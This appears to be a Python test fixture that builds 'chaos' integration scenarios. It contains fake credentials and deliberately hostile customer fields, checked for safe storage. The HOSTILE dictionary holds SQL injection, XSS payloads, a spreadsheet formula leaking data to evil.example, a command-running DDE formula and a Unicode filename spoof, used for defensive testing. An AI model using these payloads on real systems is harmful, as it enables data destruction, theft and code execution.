"""The chaos scenario: `tiny` plus what delivery and the invariants need, built in code.

Built in code (not a YAML file) because a case adds its faults to it, and because one of its fields
is a megabyte long. Its credentials are distinctive strings, so that the secrets invariant can look
for them in everything the pipeline wrote.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import yaml

from integration_assets.local_stack import SCENARIOS_DIR

BAD_EMAIL = "dara.okafor@example..com"
WHOLESALE_CUSTOMER = 300000006

# The credentials of every system: none may appear in a log, metadata, the audit trail or raw.
SECRETS = {
    "shop_access_token": "shpat_chaos_5ecret_a91f7c",
    "payments_secret_key": "sk_test_chaos_5ecret_b27c4e",
    "erp_client_secret": "erp_chaos_5ecret_c33d9a",
    "crm_client_secret": "crm_chaos_5ecret_d44e1b",
    "wms_api_key": "wms_chaos_5ecret_e55f20",
    "shopify_webhook_secret": "shpss_chaos_5ecret_f66a31",
    "stripe_webhook_secret": "whsec_chaos_5ecret_077b42",
}

# Strings that must be stored as given and never run: SQL, a spreadsheet formula, markup and script,
# odd Unicode (right-to-left override, zero-width joiner, combining marks, astral plane), and a
# field a megabyte long.
HOSTILE = {
    "first_name": "Robert'); DROP TABLE core.customers;--",
    "last_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "company": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "address1": "Zoë \u202egnp.exe\u200d Ω\u0301 \U0001d518\U0001d52b\U0001d526 \U0001f600 ' OR '1'='1",
    "note": "+SUM(1,2)@cmd|' /C calc'!A0 " + "x" * 1_048_576,
}
HOSTILE_CUSTOMER = 300000099
HOSTILE_STORY = "hostile_strings"


def delivery_scenario_raw() -> dict[str, Any]:
    """`tiny` plus a customer the ERP refuses (an invalid email), a business customer with an
    account manager and a big refund whose credit note needs approval, and the CRM's users."""
    raw = yaml.safe_load((SCENARIOS_DIR / "tiny.yaml").read_text())
    raw["name"] = "delivery"
    raw["customers"] += [
        {
            "id": 300000004,
            "email": BAD_EMAIL,
            "first_name": "Dara",
            "last_name": "Okafor",
            "address": {
                "address1": "5 Lake Shore Drive",
                "city": "Chicago",
                "province_code": "IL",
                "country_code": "US",
                "zip": "60611",
            },
        },
        {
            "id": WHOLESALE_CUSTOMER,
            "email": "buyer@acme.example.com",
            "first_name": "Lena",
            "last_name": "Fischer",
            "company": "Acme Retail Ltd",
            "tags": ["segment:wholesale", "account-manager:sam.seller@shop.example"],
            "address": {
                "address1": "1 Market Street",
                "city": "Denver",
                "province_code": "CO",
                "country_code": "US",
                "zip": "80202",
            },
        },
    ]
    raw["stories"] += [
        {
            "name": "bad_email_paid",
            "customer": 300000004,
            "events": [
                {"at": "+1h", "type": "created", "lines": [{"sku": "CASE-SLIM", "quantity": 1}]},
                {"at": "+1h5m", "type": "paid"},
            ],
        },
        {
            "name": "wholesale_big_refund",
            "customer": WHOLESALE_CUSTOMER,
            "events": [
                {
                    "at": "+1h",
                    "type": "created",
                    "lines": [{"sku": "IPOD2008GREEN", "quantity": 4}],
                },
                {"at": "+1h10m", "type": "paid"},
                {
                    "at": "+3h",
                    "type": "refunded",
                    "lines": [{"sku": "IPOD2008GREEN", "quantity": 3}],
                    "restock": True,
                },
            ],
        },
    ]
    raw["crm"] = {
        "users": [
            {
                "id": "005000000000001AAA",
                "name": "Integration User",
                "email": "integration@shop.example",
                "active": True,
            },
            {
                "id": "005000000000002AAA",
                "name": "Sam Seller",
                "email": "sam.seller@shop.example",
                "active": True,
            },
        ],
        "default_owner": "005000000000001AAA",
    }
    return raw


def chaos_scenario_raw(hours: int = 12, orders: int = 40) -> dict[str, Any]:
    """The delivery scenario with the chaos secrets, a hostile customer and order, `orders`
    generated orders over `hours` (several pages per poll), and a warehouse sending hourly files."""
    raw = delivery_scenario_raw()
    raw["name"] = "chaos"
    raw["shop"]["access_token"] = SECRETS["shop_access_token"]
    raw["payments"] = {"secret_key": SECRETS["payments_secret_key"]}
    raw["erp"] = {"client_secret": SECRETS["erp_client_secret"]}
    raw["crm"]["client_secret"] = SECRETS["crm_client_secret"]
    # The WMS knows the catalog and holds stock, so every paid order gets its reservation.
    raw["wms_api"] = {
        "api_key": SECRETS["wms_api_key"],
        "stock": {"IPOD2008GREEN": 400, "IPOD2008RED": 400, "CASE-SLIM": 800},
    }
    raw["customers"].append(
        {
            "id": HOSTILE_CUSTOMER,
            "email": "hostile@example.com",
            "first_name": HOSTILE["first_name"],
            "last_name": HOSTILE["last_name"],
            "company": HOSTILE["company"],
            "in_volume": False,
            "address": {
                "address1": HOSTILE["address1"],
                "city": "Boston",
                "province_code": "MA",
                "country_code": "US",
                "zip": "02108",
            },
        }
    )
    raw["stories"].append(
        {
            "name": HOSTILE_STORY,
            "customer": HOSTILE_CUSTOMER,
            "events": [
                {
                    "at": "+1h",
                    "type": "created",
                    "lines": [{"sku": "CASE-SLIM", "quantity": 1}],
                    "note": HOSTILE["note"],
                    "tags": [HOSTILE["last_name"], HOSTILE["company"]],
                },
                {"at": "+1h5m", "type": "paid"},
            ],
        }
    )
    raw["volume"] = {
        "orders": orders,
        "seed": 20261123,
        "start": "+0h",
        "end": f"+{hours}h",
        "mix": {"fulfilled": 0.6, "cancelled": 0.1, "refunded_partial": 0.15, "edited": 0.15},
    }
    raw["warehouse"] = {
        "locations": ["WH-EAST", "WH-WEST"],
        "initial_stock": [
            {"sku": sku, "location": location, "quantity": 500}
            for sku in ("IPOD2008GREEN", "IPOD2008RED", "CASE-SLIM")
            for location in ("WH-EAST", "WH-WEST")
        ],
        "shipments": {"every": "1h"},
    }
    raw["demo"] = {"polls": hours, "step": "1h"}
    return raw


def with_changes(raw: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    """`raw` with `changes` merged in: mappings merge key by key, anything else replaces."""
    merged = copy.deepcopy(raw)
    for key, value in changes.items():
        if isinstance(value, dict) and isinstance(merged.get(key), dict):
            merged[key] = with_changes(merged[key], value)
        else:
            merged[key] = copy.deepcopy(value)
    return merged


def write_scenario(raw: dict[str, Any], folder: Path) -> Path:
    path = folder / f"{raw['name']}.yaml"
    path.write_text(yaml.safe_dump(raw, sort_keys=False, allow_unicode=True, width=1 << 30))
    return path
